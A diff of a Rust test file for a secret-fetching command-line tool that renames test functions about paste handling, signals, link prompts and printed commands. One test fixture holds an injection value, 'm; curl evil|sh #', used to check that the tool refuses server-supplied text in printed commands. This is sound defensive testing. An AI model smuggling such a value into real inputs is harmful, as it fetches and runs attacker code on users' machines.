@@ -60,7 +60,7 @@ async fn characters_that_a_prompt_would_change_are_refused() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_paste_whose_last_line_has_no_end_is_not_cut() {
+async fn a_paste_without_a_last_line_end_is_refused_whole() {
     let (code, seen, requests) = shared("line1\nline2").await;
     assert!(code == 5 && seen.contains("more than one line was pasted"), "{seen}");
     assert!(!seen.contains("line1") && !seen.contains("line2"), "{seen}");
@@ -110,14 +110,14 @@ async fn a_terminal_that_goes_away_leaves_no_file() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_signal_that_was_to_be_ignored_is() {
+async fn an_ignored_signal_stays_ignored() {
     let line = "(trap '' INT; exec readonce get --yes --timeout 4 abc)";
     let (code, seen, _) = during_a_call(line, |get, _| get.types("\x03")).await;
     assert!(code == 7 && seen.contains("the time is up"), "{seen}");
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_link_that_is_not_on_the_command_line_is_asked_for_and_its_host_is_named() {
+async fn a_missing_link_is_asked_for_and_its_host_is_shown() {
     let app = TestApp::start().await;
     let cli = Cli::at(app.origin());
     let passphrase = cli.write("passphrase", "pass phrase");
@@ -151,7 +151,7 @@ async fn a_link_that_is_not_on_the_command_line_is_asked_for_and_its_host_is_nam
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_commands_to_follow_are_whole_and_hold_nothing_of_a_servers() {
+async fn the_printed_commands_are_complete_and_contain_no_text_of_the_server() {
     for (key, expected) in [("m", 0), ("m; curl evil|sh #", 7)] {
         let body = format!("{{\"metadata_key\":\"{key}\",\"secret_key\":\"s\"}}");
         let fake = Fake::start(&[Does::Answers(200, "", body.leak())]).await;
